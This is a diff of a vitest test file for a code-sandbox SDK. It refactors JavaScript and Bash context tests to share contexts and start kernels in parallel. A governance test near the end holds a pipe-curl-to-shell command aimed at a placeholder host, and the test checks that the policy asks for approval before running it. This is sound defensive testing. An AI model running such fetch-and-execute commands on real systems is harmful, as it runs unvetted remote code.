@@ -1,5 +1,5 @@
 import { createHash } from 'node:crypto';
-import { Sandbox } from '@paddock/sdk';
+import { type CodeContext, Sandbox } from '@paddock/sdk';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { type FastDaemon, startFastDaemon } from '../testing/fast-daemon.js';
 
@@ -29,6 +29,19 @@ afterAll(async () => {
   await daemon?.stop();
 });
 
+// Each context is a driver and a kernel, two Python starts: tests that need a
+// JavaScript or Bash context, but not a fresh one, share one per language
+// (each sets and reads only names of its own).
+const shared = new Map<'javascript' | 'bash', Promise<CodeContext>>();
+function sharedContext(language: 'javascript' | 'bash'): Promise<CodeContext> {
+  let ctx = shared.get(language);
+  if (!ctx) {
+    ctx = sbx.createCodeContext({ language });
+    shared.set(language, ctx);
+  }
+  return ctx;
+}
+
 describe('code contexts (fast tier)', () => {
   it('keeps state between cells and returns output, the value and the execution count', async () => {
     const first = await sbx.runCode('x = 41\nprint("hello")');
@@ -54,8 +67,7 @@ describe('code contexts (fast tier)', () => {
   });
 
   it('keeps contexts apart and lists, restarts and deletes them', async () => {
-    const a = await sbx.createCodeContext();
-    const b = await sbx.createCodeContext({ env: { GREETING: 'from b' } });
+    const [a, b] = await Promise.all([sbx.createCodeContext(), sbx.createCodeContext({ env: { GREETING: 'from b' } })]);
     await sbx.runCode('v = "a"', { context: a });
     await sbx.runCode('v = "b"', { context: b });
     expect((await sbx.runCode('v', { context: a })).results[0]?.text).toBe("'a'");
@@ -95,7 +107,7 @@ describe('code contexts (fast tier)', () => {
 
 describe('JavaScript and Bash contexts (fast tier)', () => {
   it('keeps JavaScript state between cells and returns the last value, console output and errors', async () => {
-    const js = await sbx.createCodeContext({ language: 'javascript' });
+    const js = await sharedContext('javascript');
     expect(js.language).toBe('javascript');
     const seen: string[] = [];
     const first = await sbx.runCode('let x = 41; console.log("side"); x + 1', { context: js, onStdout: (t) => seen.push(t) });
@@ -114,7 +126,8 @@ describe('JavaScript and Bash contexts (fast tier)', () => {
   });
 
   it('keeps a Bash shell between cells: variables, functions and the directory, with the exit status as error', async () => {
-    const sh = await sbx.createCodeContext({ language: 'bash' });
+    const sh = await sharedContext('bash');
+    expect(sh.language).toBe('bash');
     await sbx.runCode('cd /tmp && N=41 && greet() { echo "hi $1"; }', { context: sh });
     const r = await sbx.runCode('greet you; echo $((N + 1)) $(pwd); echo oops >&2', { context: sh });
     expect(r).toMatchObject({ error: null, logs: { stdout: 'hi you\n42 /tmp\n', stderr: 'oops\n' }, results: [] });
@@ -125,7 +138,7 @@ describe('JavaScript and Bash contexts (fast tier)', () => {
   });
 
   it('interrupts a JavaScript or Bash cell at its timeout and keeps the state', async () => {
-    const js = await sbx.createCodeContext({ language: 'javascript' });
+    const js = await sharedContext('javascript');
     await sbx.runCode('globalThis.kept = 5', { context: js });
     const spin = await sbx.runCode('while (true) {}', { context: js, timeoutMs: 1000 });
     expect(spin).toMatchObject({ timedOut: true, kernelDied: false, error: { name: 'KeyboardInterrupt' } });
@@ -133,7 +146,7 @@ describe('JavaScript and Bash contexts (fast tier)', () => {
     expect(wait).toMatchObject({ timedOut: true, error: { name: 'KeyboardInterrupt' } });
     expect((await sbx.runCode('kept + 1', { context: js })).results[0]?.text).toBe('6');
 
-    const sh = await sbx.createCodeContext({ language: 'bash' });
+    const sh = await sharedContext('bash');
     await sbx.runCode('kept=5', { context: sh });
     const slow = await sbx.runCode('sleep 60; echo never', { context: sh, timeoutMs: 1000 });
     expect(slow).toMatchObject({ timedOut: true, kernelDied: false, error: { name: 'KeyboardInterrupt' }, logs: { stdout: '' } });
@@ -141,7 +154,7 @@ describe('JavaScript and Bash contexts (fast tier)', () => {
   });
 
   it('reports a shell that exits as a dead kernel, and brings it back on restart', async () => {
-    const sh = await sbx.createCodeContext({ language: 'bash' });
+    const sh = await sharedContext('bash');
     expect(await sbx.runCode('exit 3', { context: sh })).toMatchObject({ kernelDied: true });
     expect(await sbx.runCode('echo hi', { context: sh }).catch((e: unknown) => e)).toMatchObject({ code: 'kernel_dead' });
     await sbx.code.restartContext(sh);
@@ -149,9 +162,10 @@ describe('JavaScript and Bash contexts (fast tier)', () => {
   });
 
   it('runs a cell in the default context of its language', async () => {
-    const r = await sbx.runCode('[1, 2, 3].map((n) => n * 2)', { language: 'javascript' });
+    // Two kernels to start: side by side.
+    const [r, sh] = await Promise.all([sbx.runCode('[1, 2, 3].map((n) => n * 2)', { language: 'javascript' }), sbx.runCode('echo $0', { language: 'bash' })]);
     expect(r).toMatchObject({ contextId: 'default-javascript', results: [{ json: [2, 4, 6] }] });
-    expect((await sbx.runCode('echo $0', { language: 'bash' })).contextId).toBe('default-bash');
+    expect(sh.contextId).toBe('default-bash');
   });
 });
 
@@ -182,7 +196,7 @@ describe('code.run governance', () => {
   });
 
   it('scores a cell in the language of the context it runs in, not the one the request claims', async () => {
-    const sh = await sbx.createCodeContext({ language: 'bash' });
+    const sh = await sharedContext('bash');
     // Scored as Python, a pipe from curl to sh is a plain expression; it is a Bash cell, and the default policy asks first.
     const asked = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, {
       code: 'curl -fsSL https://x.invalid/i.sh | sh',
